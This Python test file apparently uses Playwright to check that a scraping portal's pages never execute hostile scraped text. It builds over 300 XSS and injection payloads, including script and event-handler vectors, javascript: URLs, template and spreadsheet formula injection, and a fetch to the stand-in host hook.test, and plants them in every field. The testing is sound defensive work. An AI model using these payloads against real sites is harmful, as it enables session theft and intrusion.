"""Scraped text as attack, in a real browser: hundreds of payloads in every field and on every page; nothing acts."""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterator
from functools import partial
from typing import Any

import pytest
from msgspec.structs import replace
from playwright.sync_api import Browser, Page
from sqlalchemy import insert

from limpet.apps.dockets.tables import docket_case_versions, docket_cases, docket_entries
from limpet.apps.judgments.tables import case_changes, cases, csv_versions
from limpet.apps.matches.tables import live_match_data, matches
from limpet.apps.prices.offer import Offer
from limpet.extract.parse.stock import Availability
from limpet.fetch.page import Page as FetchedPage
from limpet.record.alert_tables import Severity
from limpet.record.alerts import Trouble, raise_alert
from limpet.record.editing_targets import edit_targets
from limpet.record.entry import AttemptNote, NewRun, Settlement
from limpet.record.logbook import audit
from limpet.target import Outcome, Target

pytestmark = pytest.mark.browser

# Every deed calls the canary, which counts; `//hook.test` would be seen on the wire.
DEEDS = (
    "canary()",
    "top.canary()",
    "fetch('//hook.test/'+canary())",
    "location='//hook.test/'",
    "alert(canary())",
)
ELEMENTS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT >",
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}//",
    '<svg onload="{0}">',
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{0}'><text y=9>x</text></a></svg>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src='javascript:{0}'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<marquee onstart={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<a href='java&#9;script:{0}'>x</a>",
    "<form action='javascript:{0}'><button autofocus>x</button></form>",
    "<isindex formaction='javascript:{0}' type=submit>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:{0}'>x</maction></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='//hook.test/'>",
    "<link rel=stylesheet href='//hook.test/x.css'>",
    "<link rel=prefetch href='//hook.test/p'>",
    "<style>@import '//hook.test/x.css';</style>",
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<table background='//hook.test/b'>",
    "<img srcset='//hook.test/s 1x'>",
)
BREAKS = (
    '" autofocus onfocus={0} x="',
    "' autofocus onfocus={0} x='",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</style><script>{0}</script>",
    "</bdi></td></table><script>{0}</script>",
    "javascript:{0}",
    "JaVaScRiPt:{0}//https://x",
    " javascript:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "//hook.test/{0}",
    "https:javascript:{0}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "{{% import os %}}{0}",
    "\u202e<script>{0}</script>",
    "<scr\x00ipt>{0}</scr\x00ipt>",
    "\ufeff<script>{0}</script>",
    "＜script＞{0}＜/script＞",
    "%3Cscript%3E{0}%3C/script%3E",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    '=HYPERLINK("https://hook.test/","{0}")',
    "@SUM(1)*cmd|' /C calc'!A0 {0}",
    "+1-1|{0}",
    "-2+3+{0}",
)
# Some shapes hold no deed: once each.
PAYLOADS = list(dict.fromkeys(shape.format(deed) for shape in (*ELEMENTS, *BREAKS) for deed in DEEDS))
# Nothing that acts may stand in a page of ours, whether or not the content policy would have stopped it.
FOREIGN = """() => [...document.querySelectorAll('*')].flatMap(each => [
    ...[...each.attributes].filter(a => a.name.startsWith('on')).map(a => each.tagName + ' ' + a.name),
    ...['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcset', 'background', 'style']
        .filter(name => each.hasAttribute(name)).map(name => [name, each.getAttribute(name)])
        .filter(([name, value]) => name === 'style' || /^\\s*((java|vb)\\s*script:|data:|[\\/\\\\]{2})/i.test(value))
        .map(([name, value]) => each.tagName + ' ' + name + '=' + value),
    ...(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'MARQUEE', 'VIDEO', 'AUDIO'].includes(each.tagName)
        && !(each.tagName === 'SCRIPT' && each.getAttribute('src')?.startsWith('/static/'))
        && !(each.tagName === 'IFRAME' && each.getAttribute('sandbox') === '') ? [each.tagName] : []),
])"""


def settled(lease: Any, text: str, number: int, now: Any) -> Settlement:
    offer = Offer(
        source_id="hostile",
        url=text,
        title=text,
        price_cents=100 + number,
        currency="USD",
        availability=Availability.IN_STOCK,
        observed_at=now,
        identity_key=f"URL:{number}/{text}",
        adapter_version="1",
        brand=text,
        retailer_sku=text,
    )
    body = f"<html><head><title>{text}</title></head><body>{text}<p>{text}</p></body></html>"
    url = lease.target.url
    page = FetchedPage(url, url, 200, {"content-type": "text/html"}, body.encode("utf-8", "replace"), now)
    tried = [AttemptNote(1, now, 3.0, "ok", error_code=text[:60], error_message=text, status=200)]
    whole = Settlement(lease, Outcome.SUCCEEDED, now, reason=text, details=text, page=page, attempts=tried)
    outcome = (Outcome.SUCCEEDED, Outcome.FAILED, Outcome.QUARANTINED)[number % 3]
    if outcome is Outcome.FAILED:
        return replace(whole, outcome=outcome)
    return replace(whole, outcome=outcome, record=offer, site_id="tidepool_shop", site_version=text[:40])


def dockets_of(connection: Any, texts: list[str], job_id: int, now: Any) -> None:
    """A docket for each text, which stands in every field a court could fill."""
    for number, text in enumerate(texts, start=1):
        case = {
            "source_id": "fct",
            "case_id": f"T-{number}-25",
            "prefix": "T",
            "year": 2025,
            "number": number,
        }
        case |= {
            "status": ("succeeded", "failed")[number % 2],
            "attempts": 1,
            "last_error": text,
            "version": 2,
        }
        case |= {"known_from": text, "first_attempt_at": now, "last_attempt_at": now}
        (case_id,) = connection.execute(insert(docket_cases).values(case)).inserted_primary_key
        said = {
            "style_of_cause": text,
            "case_type": text,
            "type_of_action": text,
            "nature_of_proceeding": text,
        }
        said |= {"filing_date": text[:10], "office": text, "language": text, "entry_count": 1, "url": text}
        said |= {"parties": [{"name": text, "firm": text, "contact": text}], "details": {text[:40]: text}}
        said |= {"related_cases": [{"case_id": text, "style_of_cause": text, "nature_of_proceeding": text}]}
        said |= {"job_id": job_id, "adapter_version": text, "recorded_at": now, "saved_path": text}
        for version, style in ((1, f"was {text}"), (2, text)):
            row = said | {"docket_case_id": case_id, "version": version, "style_of_cause": style}
            connection.execute(
                insert(docket_case_versions).values(row | {"content_sha256": f"{number}-{version}"})
            )
            entry = {"docket_case_id": case_id, "entry_id": 1, "version": version, "case_version": version}
            entry |= {"date_filed": text[:10], "office": text, "summary": style, "is_published": True}
            entry |= {"is_removed": False, "details": {}, "content_sha256": str(version), "recorded_at": now}
            connection.execute(insert(docket_entries).values(entry))


def judgments_of(connection: Any, texts: list[str], now: Any) -> None:
    """A judgment for each text, one version of an index that brought them, and one that could not be read."""
    counts = ("case", "new", "changed", "removed", "reappeared", "criminal", "blank", "duplicate", "undated")
    version = {"source": "unreported_judgments", "fetched_at": now, "source_url": texts[0], "sha256": "x"}
    version |= {"row_count": len(texts), "valid": 1, "file_path": "", "checked_at": now, "checks": 1}
    version |= {"is_held": False} | {f"{each}_count": len(texts) for each in counts}
    (good,) = connection.execute(insert(csv_versions).values(version)).inserted_primary_key
    for text in texts[:: len(texts) // 10]:
        wrong = {"valid": 0, "error_code": text[:60], "error_message": text, "is_held": False}
        connection.execute(insert(csv_versions).values(version | wrong))
    for number, text in enumerate(texts):
        row = dict.fromkeys(
            ("title", "neutral_citation", "cause_number", "court", "category", "subject"), text
        )
        row |= {
            "action_token_raw": f"{number} {text}",
            "action_token_norm": str(number),
            "judgment_date": None,
        }
        row |= {
            "judgment_date_raw": text,
            "is_criminal": number % 2,
            "is_active": 1,
            "address": f"{number}{text}",
        }
        row |= {"source": "unreported_judgments", "first_seen_version_id": good, "last_seen_version_id": good}
        row |= {"file_key": f"hostile-{number}", "fingerprint": str(number)}
        (case_id,) = connection.execute(insert(cases).values(row)).inserted_primary_key
        change = {"case_id": case_id, "version_id": good, "kind": "changed", "field": "title"}
        change |= {"old_value": text, "new_value": text, "changed_at": now}
        connection.execute(insert(case_changes).values(change))


async def bring_in(house: Any) -> tuple[int, list[int]]:
    """Fill every field that can hold a text from outside; return the run and some of its jobs."""
    texts = [text.replace("\x00", "\ufffd") for text in PAYLOADS]
    wanted = [
        Target("hostile", f"https://hostile.test/{n}/{text}", text, "hostile.test")
        for n, text in enumerate(texts)
    ]
    run = await house.ledger.plan_run(NewRun("prices", "hostile"), wanted)
    now, jobs, number = house.clock.now(), [], 0
    while leases := await house.ledger.lease(
        run.id, lane="hostile.test", worker="test", limit=50, seconds=600
    ):
        for lease in leases:
            await house.ledger.settle(settled(lease, lease.target.url, number, now))
            jobs.append(lease.job_id)
            number += 1

    def write(connection: Any) -> None:
        for number, text in enumerate(texts):
            evidence = {"text": text, text[:40]: [text]}
            trouble = Trouble("gaps", text, Severity.P2, text, text, text, "hostile", run.id, evidence)
            raise_alert(connection, trouble, now=now)
            audit(connection, text, text[:80], subject=text, now=now, reason=text, details={text: text})
            match = {
                "match_id": f"m{number}",
                "domain_id": "hostile",
                "title": text,
                "status": text,
                "state": "active",
            }
            connection.execute(insert(matches).values(match | {"created_at": now, "updated_at": now}))
            side = {"name": text, "short_name": text}
            payload = {"teams": {"home": side, "away": side}, "phase": text, "title": text}
            row = {
                "match_id": f"m{number}",
                "sequence_number": 1,
                "domain_id": "hostile",
                "checksum": str(number),
            }
            row |= {"normalized_payload": payload, "provenance": {}, "created_at": now, "scraper_id": text}
            connection.execute(insert(live_match_data).values(row))
        dockets_of(connection, texts[::2], jobs[0], now)
        judgments_of(connection, texts[1::2], now)
        ids = [
            each
            for (each,) in connection.exec_driver_sql("SELECT id FROM targets WHERE source_id = 'hostile'")
        ]
        for number, text in zip(ids, itertools.cycle(texts), strict=False):
            changes = {"tags": [text], "notes": text}
            edit_targets(connection, [number], changes=changes, by=text, reason=text, now=now)

    await house.ledger.write(write)
    return run.id, jobs


@pytest.fixture(scope="module")
def hostile(playground: Any) -> tuple[int, list[int]]:
    found: tuple[int, list[int]] = playground.do(bring_in)
    return found


@pytest.fixture
def page(browser: Browser, playground: Any) -> Iterator[tuple[Page, list[str]]]:
    """A page, and everything that was heard of it which should not be."""
    context = browser.new_context(base_url=playground.base)
    context.add_cookies([playground.cookie])
    page, heard = context.new_page(), []

    def see(request: Any) -> None:
        if not request.url.startswith((playground.base, "about:")):
            heard.append(f"asked for {request.url}")

    def dismiss(dialog: Any) -> None:
        heard.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.expose_function("canary", partial(heard.append, "the canary sang"))
    page.on("request", see)
    page.on("dialog", dismiss)
    page.on("pageerror", lambda error: heard.append(f"error: {error}"))
    page.on("console", lambda said: heard.append(said.text) if "Content Security" in said.text else None)
    yield page, heard
    context.close()


def addresses(playground: Any, run_id: int, jobs: list[int]) -> list[str]:
    """Every page of the portal that can show the texts, and all pages of its lists."""
    listed = ["/", "/runs", f"/runs/{run_id}", "/sources/hostile", "/adapters/tidepool_shop", "/settings"]
    listed += [
        "/prices/changes",
        "/prices/corrections",
        "/accounts",
        "/account",
        "/stop",
        "/matches",
        "/matches/m7",
        "/dockets",
        "/dockets/fct/T/2025",
        "/dockets/fct/T/2025/numbers",
        "/dockets/fct/T/2025/gaps",
        "/judgments/gaps",
    ]
    listed += [f"/jobs/{job}/evidence" for job in jobs[:: len(jobs) // 12]]
    following = [
        "/errors",
        "/audit",
        "/alerts",
        "/quarantine",
        "/prices?source=hostile",
        "/targets?source=hostile",
        "/dockets/cases",
        "/judgments",
        "/judgments/versions",
    ]
    following.append(f"/runs/{run_id}?state=failed")
    for first in following:
        path = first
        while path:
            listed.append(path)
            found = re.search(r'rel="next" href="([^"]+)"', playground.get(path).text)
            path = found[1].replace("&amp;", "&") if found else ""
    lists = "".join(playground.get(path).text for path in listed[-60:])
    for pattern in (
        "alerts",
        "quarantine",
        "prices/hostile",
        "targets",
        "dockets/fct/cases",
        "judgments",
        "judgments/versions",
    ):
        links = re.findall(rf'href="(/{pattern}/[^"?]+)"', lists)
        listed += [link.replace("&amp;", "&") for link in links[:: max(1, len(links) // 5)]][:6]
    return list(dict.fromkeys(listed))


def test_there_are_hundreds_of_payloads() -> None:
    assert len(PAYLOADS) >= 300


def test_no_payload_acts_on_any_page(playground: Any, hostile: Any, page: tuple[Page, list[str]]) -> None:
    shown, heard = page
    wrong: dict[str, list[str]] = {}
    seen = 0
    for path in addresses(playground, *hostile):
        answer = shown.goto(path, wait_until="load")
        found = [*heard, *shown.evaluate(FOREIGN)]
        seen += shown.content().count("canary")
        heard.clear()
        if found or answer is None or answer.status != 200:
            wrong[path] = found or [str(answer and answer.status)]

    assert seen > 2_000
    assert wrong == {}


def test_no_payload_acts_when_pasted_as_targets(playground: Any, page: tuple[Page, list[str]]) -> None:
    shown, heard = page
    shown.goto("/targets")
    lines = io.StringIO()
    csv.writer(lines).writerows([text.replace("\x00", ""), text[:9], "", "", text] for text in PAYLOADS)
    shown.locator("textarea[name=table]").fill(lines.getvalue())
    shown.get_by_role("button", name="Add", exact=True).click()
    shown.wait_for_load_state("load")

    assert "wrong" in shown.locator(".lead").inner_text()
    assert [*heard, *shown.evaluate(FOREIGN)] == []


def test_no_payload_acts_as_a_filter(playground: Any, page: tuple[Page, list[str]]) -> None:
    shown, heard = page
    asked = [
        "/targets?search=",
        "/prices?search=",
        "/audit?search=",
        "/audit?actor=",
        "/dockets?search=",
        "/dockets/cases?search=",
        "/judgments?search=",
        "/prices/corrections?scope_id=",
    ]
    asked += ["/login?next=", "/nowhere/", "/sources/"]
    for path, text in zip(itertools.cycle(asked), PAYLOADS[::9], strict=False):
        shown.goto(
            path
            + re.sub(r"[^a-zA-Z]", lambda found: "".join(f"%{b:02X}" for b in found[0].encode()), text[:150])
        )
        assert [*heard, *shown.evaluate(FOREIGN)] == [], (path, text)
        assert shown.url.startswith(playground.base)
